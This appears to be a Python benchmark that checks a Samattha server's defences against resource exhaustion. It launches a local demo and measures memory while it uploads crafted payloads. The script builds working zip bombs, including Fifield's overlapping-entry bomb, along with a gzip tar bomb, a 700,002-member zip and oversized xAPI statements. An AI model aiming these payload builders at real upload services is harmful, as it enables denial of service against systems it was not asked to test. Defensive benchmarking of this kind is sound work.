"""Issue 25's attacks against a running Samattha, with the server's memory sampled every 50 ms.

    .venv/bin/python benchmarks/attacks_bench.py --samattha /path/to/venv/bin/samattha [--port 8790]
        [--packages-quota 2.5GiB] [--only NAME ...]

Starts ``samattha demo`` from the given install (its built-in Moodle signs a real LTI launch for the
coordinator; its own instance folder and SQLite database, removed afterwards), then makes each attack of the
issue through the real uploads and the LRS, one after another:

- fifield: David Fifield's overlapping-entry zip bomb, a 270 KB package whose 50 members share one compressed
  kernel (1 GB unpacked; each member under 100:1), with a valid tincan.xml beside them;
- backup: a 7.5 MB .mbz holding 40 wanted members (activities/*/module.xml) of 25 MiB each, about 138:1;
- members: a 60 MB zip of 700,002 empty members;
- quota: a 13.5 MB package expanding to 1 GiB, uploaded three times, with the packages' total set to
  ``--packages-quota`` where the install knows that setting (the demo reads no environment);
- context: one 31 MB statement with 1,000,000 context activities;
- four50: four 50 MiB statements at once.

For each it prints the HTTP status(es), the seconds taken, the peak resident set of the server's processes
above the one before the attack, and the resident set two seconds after. Run it against two installs (a
checkout before issue 25 and one after) to compare; the machine's load average is printed, since others' work
on a small machine moves the seconds (not the memory).
"""

from __future__ import annotations

import argparse
import html
import os
import re
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urljoin

import requests

MIB = 1024 * 1024
TINCAN = (b'<?xml version="1.0"?><tincan xmlns="http://projecttincan.com/tincan.xsd"><activities>'
          b'<activity id="https://example.test/bench" type="http://adlnet.gov/expapi/activities/course">'
          b"<name>Bench</name><launch>index.html</launch></activity></activities></tincan>")


# --- building the attacks ----------------------------------------------------------------------------------

@dataclass(frozen=True)
class Entry:
    name: bytes
    method: int  # 0 stored, 8 deflated
    crc: int
    data: bytes  # as stored in the zip
    size: int  # unpacked


def deflated(plain: bytes) -> bytes:
    squeeze = zlib.compressobj(6, zlib.DEFLATED, -15)
    return squeeze.compress(plain) + squeeze.flush()


def plain_entry(name: str, plain: bytes) -> Entry:
    return Entry(name.encode(), 8, zlib.crc32(plain), deflated(plain), len(plain))


def local_header(entry: Entry) -> bytes:
    return struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, entry.method, 0, 0, entry.crc, len(entry.data),
                       entry.size, len(entry.name), 0) + entry.name


def central_header(entry: Entry, offset: int) -> bytes:
    return struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 45, 20, 0, entry.method, 0, 0, entry.crc, len(entry.data),
                       entry.size, len(entry.name), 0, 0, 0, 0, 0, offset) + entry.name


def end_records(count: int, central_size: int, central_offset: int) -> bytes:
    """The end of central directory record, with its ZIP64 twin when the count needs it."""
    if count < 0xFFFF:
        return struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, central_size, central_offset, 0)
    zip64_at = central_offset + central_size
    return (struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, central_size, central_offset)
            + struct.pack("<4sLQL", b"PK\x06\x07", 0, zip64_at, 1)
            + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, central_size, central_offset, 0))


def raw_zip(entries: list[Entry], tail: bytes = b"", tail_entries: list[tuple[Entry, int]] = ()) -> bytes:
    """A zip of ``entries`` written as they are (their data already compressed), then ``tail`` (bytes whose
    members, with offsets relative to it, are ``tail_entries``) and the central directory of all of them."""
    body, central = bytearray(), bytearray()
    for entry in entries:
        central += central_header(entry, len(body))
        body += local_header(entry) + entry.data
    start = len(body)
    body += tail
    for entry, offset in tail_entries:
        central += central_header(entry, start + offset)
    count = len(entries) + len(tail_entries)
    return bytes(body + central + end_records(count, len(central), len(body)))


def noisy(size: int, noise_bytes: int, seed: int) -> bytes:
    """``size`` bytes of long runs with ``noise_bytes`` random bytes in each 4 KiB: a chosen compression ratio."""
    import random

    rng = random.Random(seed)  # noqa: S311 - attack data, not secrets
    block = []
    for _ in range(size // 4096):
        tail = rng.randbytes(noise_bytes).hex().encode()
        block.append(b"<x>" + b"a" * (4096 - 7 - len(tail)) + tail + b"</x>")
    return b"".join(block)


def fifield_bomb(members: int = 50, kernel_size: int = 20 * MIB) -> bytes:
    """Every member's data quotes the next member's local header in a stored DEFLATE block and runs on into it,
    so all end in one shared kernel (David Fifield, "A better zip bomb", 2019)."""
    kernel = deflated(noisy(kernel_size, 32, 1))
    data, headers, infos = kernel, [], []
    for number in reversed(range(members)):
        plain = zlib.decompress(data, -15)
        entry = Entry(f"media/{number:04d}.bin".encode(), 8, zlib.crc32(plain), data, len(plain))
        header = local_header(entry)
        headers.insert(0, header)
        infos.insert(0, entry)
        if number:
            data = struct.pack("<BHH", 0, len(header), 0xFFFF ^ len(header)) + header + data
    tail, offsets = bytearray(), []
    for number, header in enumerate(headers):
        offsets.append(len(tail))
        tail += header
        if number < members - 1:
            nxt = headers[number + 1]
            tail += struct.pack("<BHH", 0, len(nxt), 0xFFFF ^ len(nxt))
    tail += kernel
    front = [plain_entry("tincan.xml", TINCAN), plain_entry("index.html", b"<p>bench</p>")]
    return raw_zip(front, bytes(tail), list(zip(infos, offsets, strict=True)))


def gzip_member(data: bytes) -> bytes:
    squeeze = zlib.compressobj(6, zlib.DEFLATED, 31)
    return squeeze.compress(data) + squeeze.flush()


def backup_bomb(members: int = 40, member_size: int = 25 * MIB) -> bytes:
    """A gzip tar whose wanted members are large; one member's data is compressed once and repeated (a gzip file
    may be several gzip members)."""
    import tarfile

    body = b'<module id="1">' + noisy(member_size - 512, 18, 2) + b"</module>"
    body += b" " * (-len(body) % 512)
    data = gzip_member(body)
    pieces = []
    for number in range(members):
        info = tarfile.TarInfo(f"activities/page_{number}/module.xml")
        info.size = len(body)
        pieces += [gzip_member(info.tobuf(format=tarfile.USTAR_FORMAT)), data]
    pieces.append(gzip_member(b"\0" * 1024))
    return b"".join(pieces)


def many_members(count: int = 700_002) -> bytes:
    digits = "0123456789abcdefghijklmnopqrstuvwxyz"

    def name(number: int) -> bytes:
        text = ""
        for _ in range(5):
            number, digit = divmod(number, 36)
            text = digits[digit] + text
        return text.encode()

    entries = [Entry(name(n), 0, 0, b"", 0) for n in range(count - 2)]
    return raw_zip([plain_entry("tincan.xml", TINCAN), plain_entry("index.html", b"<p>bench</p>"), *entries])


def quota_package(total: int = 1024 * MIB, member_size: int = 16 * MIB) -> bytes:
    plain = noisy(member_size, 34, 3)
    data, crc = deflated(plain), zlib.crc32(plain)
    media = [Entry(f"media/{n:03d}.bin".encode(), 8, crc, data, len(plain)) for n in range(total // member_size)]
    return raw_zip([plain_entry("tincan.xml", TINCAN), plain_entry("index.html", b"<p>bench</p>"), *media])


def context_statement(count: int = 1_000_000) -> bytes:
    others = ",".join(f'{{"id":"http://e.test/{n}"}}' for n in range(count))
    return (f'{{"actor":{{"mbox":"mailto:bench@example.test"}},"verb":{{"id":"http://adlnet.gov/expapi/verbs/'
            f'experienced"}},"object":{{"id":"http://example.test/a"}},"context":{{"contextActivities":'
            f'{{"other":[{others}]}}}}}}').encode()


def big_statement(size: int = 50 * MIB) -> bytes:
    head = (b'{"actor":{"mbox":"mailto:bench@example.test"},"verb":{"id":"http://adlnet.gov/expapi/verbs/answered"},'
            b'"object":{"id":"http://example.test/q"},"result":{"response":"')
    return head + b"y" * (size - len(head) - 3) + b'"}}'


# --- the server and its memory -----------------------------------------------------------------------------

def resident(pid: int) -> int:
    """The resident set of ``pid`` and its descendants, in bytes."""
    total, todo = 0, [pid]
    while todo:
        current = todo.pop()
        try:
            status = Path(f"/proc/{current}/status").read_text()
            total += int(re.search(r"VmRSS:\s+(\d+) kB", status).group(1)) * 1024  # type: ignore[union-attr]
            for task in Path(f"/proc/{current}/task").iterdir():
                todo += [int(child) for child in (task / "children").read_text().split()]
        except (OSError, AttributeError):
            continue
    return total


@contextmanager
def sampled(pid: int) -> Iterator[Callable[[], int]]:
    peak, done = [resident(pid)], threading.Event()

    def sample() -> None:
        while not done.wait(0.05):
            peak[0] = max(peak[0], resident(pid))

    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()
    try:
        yield lambda: peak[0]
    finally:
        done.set()
        sampler.join()


@dataclass
class Server:
    process: subprocess.Popen[bytes]
    url: str
    instance: Path
    samattha: str
    browser: requests.Session = field(default_factory=requests.Session)
    course: int = 0
    lrs_auth: tuple[str, str] = ("", "")


LAUNCHER = """
import sys
import plugin.demo.run as run
from plugin.config import Config, load_config

quota = int(sys.argv[4])

def load(env=None, **overrides):
    if "packages_max_bytes" in Config.__dataclass_fields__:
        overrides.setdefault("packages_max_bytes", quota)
    return load_config(env, **overrides)

run.load_config = load
run.run_demo(sys.argv[1], int(sys.argv[2]), run.demo_instance(sys.argv[3]), database_url=None, threads=8)
"""


def start(samattha: str, port: int, quota: int) -> Server:
    instance = Path(tempfile.mkdtemp(prefix="attacks-bench-"))
    python = str(Path(samattha).with_name("python"))
    # -P and the instance as working folder: the install's own code, never a checkout's in the current folder.
    process = subprocess.Popen([python, "-P", "-c", LAUNCHER, "127.0.0.1", str(port), str(instance), str(quota)],
                               stdout=subprocess.PIPE, stderr=subprocess.STDOUT, start_new_session=True, cwd=instance)
    url = f"http://127.0.0.1:{port}"
    deadline = time.time() + 300
    while time.time() < deadline:
        if process.poll() is not None:
            raise RuntimeError(f"the demo stopped: {process.stdout.read().decode()[-2000:]}")  # type: ignore[union-attr]
        try:
            if requests.get(f"{url}/demo/", timeout=5).status_code == 200:
                break
        except requests.ConnectionError:
            time.sleep(0.5)
    threading.Thread(target=lambda: process.stdout.read(), daemon=True).start()  # type: ignore[union-attr]
    server = Server(process, url, instance, samattha)
    try:
        launch_coordinator(server)
        server.lrs_auth = lrs_credential(server)
    except BaseException:
        stop(server)
        raise
    return server


def stop(server: Server) -> None:
    os.killpg(server.process.pid, signal.SIGINT)
    try:
        server.process.wait(30)
    except subprocess.TimeoutExpired:
        os.killpg(server.process.pid, signal.SIGKILL)
        server.process.wait()
    shutil.rmtree(server.instance, ignore_errors=True)


def _form(page: str, base: str) -> tuple[str, dict[str, str]]:
    action = re.search(r'<form[^>]*action="([^"]*)"', page)
    if action is None:
        raise RuntimeError(f"no form in {page[:300]!r}")
    hidden = re.findall(r'type="hidden" name="([^"]*)" value="([^"]*)"', page)
    return urljoin(base, html.unescape(action.group(1))), {html.unescape(k): html.unescape(v) for k, v in hidden}


def launch_coordinator(server: Server) -> None:
    """What the coordinator's browser does from the demo's tour: Moodle's launch page, the tool's login, Moodle's
    auth.php, the launch."""
    tour = server.browser.get(f"{server.url}/demo/", timeout=30).text
    row = re.search(r'data-role="coordinator">.*?href="([^"]*launch\.php[^"]*)"', tour, re.S)
    if row is None:
        raise RuntimeError("no coordinator on the demo's tour")
    page = server.browser.get(html.unescape(row.group(1)), timeout=30)
    for _ in range(2):
        action, fields = _form(page.text, page.url)
        page = server.browser.post(action, data=fields, timeout=30)
        page.raise_for_status()
    course = re.search(r"/course/(\d+)/", page.url + tour)
    if course is None:
        raise RuntimeError("the launch named no course")
    server.course = int(course.group(1))


def lrs_credential(server: Server) -> tuple[str, str]:
    env = {**os.environ, "SAMATTHA_INSTANCE_PATH": str(server.instance)}
    made = subprocess.run([server.samattha, "lrs", "credentials", "create", "--name", "bench"], env=env,
                          capture_output=True, text=True, check=False, cwd=server.instance)
    if made.returncode:
        raise RuntimeError(f"samattha lrs credentials create: {made.stderr[-2000:]}")
    found = dict(re.findall(r"^(key|secret): (\S+)$", made.stdout, re.M))
    return found["key"], found["secret"]


def csrf(server: Server, page: str) -> str:
    text = server.browser.get(f"{server.url}/course/{server.course}/{page}", timeout=30).text
    found = re.search(r'name="csrf" value="([^"]*)"', text)
    if found is None:
        raise RuntimeError(f"no form token on /{page}")
    return html.unescape(found.group(1))


# --- the attacks ---------------------------------------------------------------------------------------------

def upload_package(server: Server, data: bytes) -> int:
    sent = server.browser.post(f"{server.url}/course/{server.course}/content", data={"csrf": csrf(server, "content")},
                               files={"package": ("bench.zip", data, "application/zip")}, timeout=600)
    return sent.status_code


def upload_backup(server: Server, data: bytes) -> int:
    sent = server.browser.post(f"{server.url}/course/{server.course}/mapping/backup",
                               data={"csrf": csrf(server, "mapping")},
                               files={"backup": ("course.mbz", data, "application/octet-stream")}, timeout=600)
    return sent.status_code


def post_statement(server: Server, data: bytes) -> int:
    sent = requests.post(f"{server.url}/xapi/statements", data=data, auth=server.lrs_auth, timeout=600,
                         headers={"Content-Type": "application/json", "X-Experience-API-Version": "1.0.3"})
    return sent.status_code


def packages_on_disk(server: Server) -> int:
    root = server.instance / "packages"
    return sum(p.stat().st_size for p in root.rglob("*") if p.is_file() and ".uploads" not in p.parts)


ATTACKS: dict[str, tuple[Callable[[], Any], Callable[[Server, Any], list[int]]]] = {
    "fifield": (fifield_bomb, lambda s, d: [upload_package(s, d)]),
    "backup": (backup_bomb, lambda s, d: [upload_backup(s, d)]),
    "members": (many_members, lambda s, d: [upload_package(s, d)]),
    "quota": (quota_package, lambda s, d: [upload_package(s, d) for _ in range(3)]),
    "context": (context_statement, lambda s, d: [post_statement(s, d)]),
    "four50": (lambda: [big_statement() for _ in range(4)],
               lambda s, d: list(ThreadPoolExecutor(4).map(lambda one: post_statement(s, one), d))),
}


def size_of(data: Any) -> int:
    return sum(len(one) for one in data) if isinstance(data, list) else len(data)


def parse_size(text: str) -> int:
    found = re.fullmatch(r"([\d.]+)\s*([KMG]i?B)?", text.strip())
    if found is None:
        sys.exit(f"--packages-quota: a size such as 2.5GiB, not {text!r}")
    scale = {"K": 2**10, "M": 2**20, "G": 2**30}.get((found.group(2) or " ")[0], 1)
    return int(float(found.group(1)) * scale)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--samattha", required=True, help="the samattha command of the install to attack")
    parser.add_argument("--port", type=int, default=8790)
    parser.add_argument("--packages-quota", default="2.5GiB", help="the packages' total, where the install has one")
    parser.add_argument("--only", nargs="*", choices=list(ATTACKS), default=list(ATTACKS))
    args = parser.parse_args()
    quota = parse_size(args.packages_quota)
    with socket.socket() as probe:
        if probe.connect_ex(("127.0.0.1", args.port)) == 0:
            sys.exit(f"--port: {args.port} is taken")
    server = start(args.samattha, args.port, quota)
    print(f"install {args.samattha}; load average {os.getloadavg()[0]:.1f} on {os.cpu_count()} CPUs")
    print(f"{'attack':8} {'sent':>9} {'status':>15} {'seconds':>8} {'peak +MiB':>10} {'after MiB':>10}  notes")
    try:
        for name in args.only:
            build, attack = ATTACKS[name]
            data = build()
            sent = size_of(data)
            time.sleep(1)
            baseline = resident(server.process.pid)
            with sampled(server.process.pid) as peak:
                began = time.perf_counter()
                statuses = attack(server, data)
                seconds = time.perf_counter() - began
            del data
            time.sleep(2)
            healthy = requests.get(f"{server.url}/healthz", timeout=30).status_code
            after = resident(server.process.pid)
            notes = f"healthz {healthy}; packages on disk {packages_on_disk(server) / MIB:.0f} MiB"
            print(f"{name:8} {sent / MIB:6.1f}MiB {','.join(map(str, statuses)):>15} {seconds:8.1f} "
                  f"{(peak() - baseline) / MIB:10.0f} {after / MIB:10.0f}  {notes}", flush=True)
    finally:
        stop(server)


if __name__ == "__main__":
    main()
